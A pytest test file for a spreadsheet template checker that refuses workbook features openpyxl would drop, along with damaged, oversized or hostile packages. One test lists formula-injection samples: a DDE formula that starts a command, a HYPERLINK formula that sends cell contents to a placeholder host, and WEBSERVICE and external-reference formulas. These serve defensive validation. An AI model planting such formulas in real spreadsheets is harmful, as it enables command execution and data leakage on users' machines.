"""Tests of scoring.reports.templates.losses and parts: templates with what openpyxl drops, and hostile ones."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.table import Table

from scoring.reports.findings import Findings
from tests.scoring.reports.templates.made import FILE, Sheet, codes, filled_bytes, made, refused, saved
from tests.scoring.reports.workbook.rounds import trimmed

FINDINGS = Findings(trimmed(), str, "1")
CELLS = {"A1": "{{status}}{{statement}}", "A5": "{{agency.name}}", "B5": "{{agency.total}}"}
SHEET, MAIN = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
RELATIONS = "xl/worksheets/_rels/sheet1.xml.rels"
SPACE = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
X14 = 'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"'


def changed(replaced: dict[str, tuple[str, str]] | None = None, added: dict[str, str] | None = None) -> bytes:
    """Return a sound template in which text of a member is replaced, and members are added."""
    source, stream = zipfile.ZipFile(io.BytesIO(made(CELLS))), io.BytesIO()
    with source, zipfile.ZipFile(stream, "w") as target:
        for name in source.namelist():
            old, new = (replaced or {}).get(name, ("", ""))
            text = source.read(name).decode()
            assert old in text
            target.writestr(name, text.replace(old, new, 1))
        for name, text in (added or {}).items():
            target.writestr(name, text)
    return stream.getvalue()


def related(kind: str, target: str) -> str:
    """Return the relations of a sheet to one other part."""
    return f'<Relationships {SPACE}><Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"/></Relationships>'


def in_sheet(xml: str) -> bytes:
    """Return a template whose sheet ends with this XML."""
    return changed({SHEET: ("</worksheet>", f"{xml}</worksheet>")})


def told(template: bytes) -> list[str]:
    """Return place, code and what is lost of every problem."""
    return [
        f"{problem.place.render().removeprefix(FILE).strip()} {problem.code}: {dict(problem.rule.values).get('what')}"
        for problem in refused(FINDINGS, template)
    ]


def test_a_sound_template_loses_nothing() -> None:
    """The ones below are refused for what was put into them."""
    assert refused(FINDINGS, changed()) == []
    harmless = {
        "xl/printerSettings/printerSettings1.bin": "x",
        "customXml/item1.xml": "<a/>",
        "docProps/custom2.xml": "<a/>",
    }
    assert refused(FINDINGS, changed(added=harmless)) == []
    assert refused(FINDINGS, in_sheet('<ignoredErrors/><extLst><ext uri="a"><PLV/></ext></extLst>')) == []


def test_a_chart_is_named_with_its_place() -> None:
    """Where its upper left corner is."""

    def draw(sheet: Sheet) -> None:
        chart = BarChart()
        chart.add_data(Reference(sheet, min_col=2, min_row=5, max_row=5))
        sheet.add_chart(chart, "D8")

    assert told(made(CELLS, draw)) == [
        "xl/charts/chart1.xml TEMPLATE-LOST: Message(text='charts', values=())",
        "sheet “成绩” cell D8 TEMPLATE-LOST: Message(text='a chart', values=())",
    ]


@pytest.mark.parametrize(
    ("shape", "words"),
    [("pic", "a picture"), ("sp", "a shape or text box"), ("cxnSp", "a line"), ("contentPart", "a drawing")],
)
def test_drawings_are_named(shape: str, words: str) -> None:
    """Also one that hangs on no cell."""
    relation = related("drawing", "../drawings/drawing1.xml")
    drawing = f'<a:wsDr xmlns:a="a"><a:absoluteAnchor><a:{shape}/></a:absoluteAnchor></a:wsDr>'
    found = told(changed(added={RELATIONS: relation, "xl/drawings/drawing1.xml": drawing}))
    assert found == [f"sheet “成绩” TEMPLATE-LOST: Message(text='{words}', values=())"]


def test_a_control_is_told_from_a_note() -> None:
    """Both lie in the same kind of part."""
    relation = related("vmlDrawing", "/xl/drawings/vmlDrawing1.vml")
    shapes = '<xml xmlns:x="x"><x:ClientData ObjectType="{}"/></xml>'
    for kind, expected in (
        ("Note", []),
        ("Button", ["sheet “成绩” TEMPLATE-LOST: Message(text='form controls', values=())"]),
    ):
        added = {RELATIONS: relation, "xl/drawings/vmlDrawing1.vml": shapes.format(kind)}
        assert told(changed(added=added)) == expected


@pytest.mark.parametrize(
    ("xml", "words"),
    [
        ("<protectedRanges/>", "ranges that may be edited"),
        ("<picture/>", "a background picture"),
        ("<legacyDrawingHF/>", "a picture in header or footer"),
        ("<unheardOf/>", "{name}"),
        (f'<extLst><ext {X14} uri="a"><x14:sparklineGroups/></ext></extLst>', "sparklines"),
        (f'<extLst><ext {X14} uri="a"><x14:newThing/></ext></extLst>', "{name}"),
    ],
)
def test_elements_that_are_not_kept(xml: str, words: str) -> None:
    """By their name where no word is known for them."""
    (problem,) = refused(FINDINGS, in_sheet(xml))
    what = dict(problem.rule.values)["what"]
    assert (problem.code, problem.place.sheet, getattr(what, "text", "")) == ("TEMPLATE-LOST", "成绩", words)


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("xl/pivotTables/pivotTable1.xml", "pivot tables"),
        ("xl/slicers/slicer1.xml", "slicers"),
        ("xl/threadedComments/threadedComment1.xml", "threaded comments"),
        ("xl/cellimages.xml", "pictures in cells"),
        ("xl/metadata.xml", "dynamic arrays or data types in cells"),
        ("xl/newThings/thing.xml", "{name}"),
    ],
)
def test_parts_that_are_not_kept(name: str, words: str) -> None:
    """An unheard-of part is taken for something that somebody needs."""
    (problem,) = refused(FINDINGS, changed(added={name: "<a/>"}))
    what = dict(problem.rule.values)["what"]
    assert (problem.code, problem.place.path, getattr(what, "text", "")) == ("TEMPLATE-LOST", name, words)


def test_tables_and_data_tables() -> None:
    """Their references are of a kind of their own."""

    def tabled(sheet: Sheet) -> None:
        sheet["D4"], sheet["E4"] = "甲", "乙"
        sheet.add_table(Table(displayName="T", ref="D4:E5"))

    assert codes(FINDINGS, made(CELLS, tabled)) == [("TEMPLATE-LOST", ""), ("TEMPLATE-LOST", "")]
    data_table = (
        '<row r="9"><c r="C9"><f t="dataTable" ref="C9:D9" dt2D="0" dtr="0" r1="A9"/><v>1</v></c></row></sheetData>'
    )
    assert codes(FINDINGS, changed({SHEET: ("</sheetData>", data_table)})) == [("TEMPLATE-LOST", "C9:D9")]


def test_links_lead_nowhere_else() -> None:
    """A link to a page is refused, one within the workbook is kept."""

    def outside(sheet: Sheet) -> None:
        sheet["A1"].hyperlink = "https://example.com/"

    def inside(sheet: Sheet) -> None:
        sheet["A1"].hyperlink = Hyperlink(ref="A1", location="成绩!A9")

    assert codes(FINDINGS, made(CELLS, outside)) == [("TEMPLATE-LINK", "A1")]
    assert codes(FINDINGS, made(CELLS, inside)) == []


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://a/?"&B5)',
        '=WEBSERVICE("http://a/")',
        "=cmd|'/c calc'!A0",
        "=[1]表!A1",
        "=_xlfn.FILTERXML(A1,A2)",
    ],
)
def test_formulas_that_reach_out(formula: str) -> None:
    """Whatever fetches, opens or starts something."""
    assert {code for code, _ in codes(FINDINGS, made({**CELLS, "C9": formula}))} == {"TEMPLATE-FORMULA"}
    text = made({**CELLS, "C9": f"用法：{formula}"})
    assert codes(FINDINGS, text) == []


def test_areas_without_end_are_refused_before_they_are_visited() -> None:
    """Seventeen billion merged cells, links over whole columns, formulas without number."""
    merged = '<mergeCells count="1"><mergeCell ref="A6:XFD1048576"/></mergeCells>'
    assert codes(FINDINGS, in_sheet(merged)) == [("TEMPLATE-SIZE", "")]
    linked = '<hyperlinks><hyperlink ref="A6:Z100000" location="成绩!A1"/></hyperlinks>'
    assert codes(FINDINGS, in_sheet(linked)) == [("TEMPLATE-SIZE", "")]
    cells = "".join(f'<row r="{row}"><c r="A{row}"><f>1</f></c></row>' for row in range(6, 20_010))
    assert codes(FINDINGS, changed({SHEET: ("</sheetData>", f"{cells}</sheetData>")})) == [("TEMPLATE-SIZE", "")]


def test_a_workbook_that_can_be_read_in_two_ways_is_damaged() -> None:
    """A second main part, a relation given twice, a sheet that is not there."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    second = "</Types>", f'<Override PartName="/xl/worksheets/other.xml" ContentType="{kind}"/></Types>'
    data = changed({"[Content_Types].xml": second}, {"xl/worksheets/other.xml": "<workbook/>"})
    assert codes(FINDINGS, data) == [("BOOK-PARTS", "")]
    relations = "xl/_rels/workbook.xml.rels"
    twice = (
        "</Relationships>",
        '<Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    )
    assert codes(FINDINGS, changed({relations: twice})) == [("BOOK-DAMAGED", "")]
    assert codes(FINDINGS, changed({MAIN: ('r:id="rId1"', 'r:id="rId99"')})) == [("BOOK-DAMAGED", "")]


def test_xml_under_another_name_is_not_read() -> None:
    """Only what is named as XML has been searched for entities and formulas."""
    contents, relations = "[Content_Types].xml", "xl/_rels/workbook.xml.rels"
    named = changed({contents: ("/xl/worksheets/sheet1.xml", "/xl/worksheets/sheet1.png")})
    kind = '<Default Extension="png" ContentType="application/xml"/></Types>'
    by_default = changed({contents: ("</Types>", kind)})
    led_to = changed({relations: ("/xl/worksheets/sheet1.xml", "/xl/media/a.png")}, {"xl/media/a.png": "<worksheet/>"})
    refusals = [codes(FINDINGS, data) for data in (named, by_default, led_to)]
    assert refusals == [[("BOOK-PARTS", "")], [("BOOK-PARTS", "")], [("BOOK-DAMAGED", "")]]


def test_a_sheet_beyond_all_measure() -> None:
    """More than sixteen MiB of XML are more than a template needs."""
    wide = f'<row r="9"><c r="A9" t="inlineStr"><is><t>{"ab" * 9_000_000}</t></is></c></row></sheetData>'
    noise = bytes(at * 7919 % 251 for at in range(200_000)) * 2
    data = io.BytesIO(changed({SHEET: ("</sheetData>", wide)}, {"docProps/thumbnail.jpeg": noise.hex()}))
    assert codes(FINDINGS, data.getvalue()) == [("BOOK-SIZE", "")]


def test_no_workbook_at_all() -> None:
    """What other readers of workbooks refuse is refused here too."""
    assert [codes(FINDINGS, data) for data in (b"", b"a,b\n", made(CELLS)[:-9])] == [
        [("BOOK-KIND", "")], [("BOOK-KIND", "")], [("BOOK-DAMAGED", "")],
    ]  # fmt: skip
    hidden = Workbook()
    hidden.create_chartsheet("图")
    assert ("TEMPLATE-LOST", "") in codes(FINDINGS, saved(hidden))


def test_what_openpyxl_says_it_leaves_out() -> None:
    """A print area that is worked out."""
    name = '<definedName name="_xlnm.Print_Area" localSheetId="0">OFFSET(A1,0,0,5,5)</definedName>'
    data = changed({MAIN: ("<definedNames/>", f"<definedNames>{name}</definedNames>")})
    (problem,) = refused(FINDINGS, data)
    assert problem.code == "TEMPLATE-LOST"
    assert problem.rule.render().startswith("a part of the template would be lost: Print area cannot be set to")


def test_the_settings_of_one_printer_stay_behind() -> None:
    """They are not taken along, so nothing may refer to them: Excel would call the workbook damaged."""
    page = f'<pageSetup paperSize="9" xmlns:r="{OFFICE}" r:id="r1"/></worksheet>'
    settings = {
        RELATIONS: related("printerSettings", "../printerSettings/printerSettings1.bin"),
        "xl/printerSettings/printerSettings1.bin": "x",
    }
    data = filled_bytes(FINDINGS, changed({SHEET: ("</worksheet>", page)}, settings))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        (setup,) = re.findall("<pageSetup[^>]*>", archive.read(SHEET).decode())
    assert setup == '<pageSetup paperSize="9"/>'
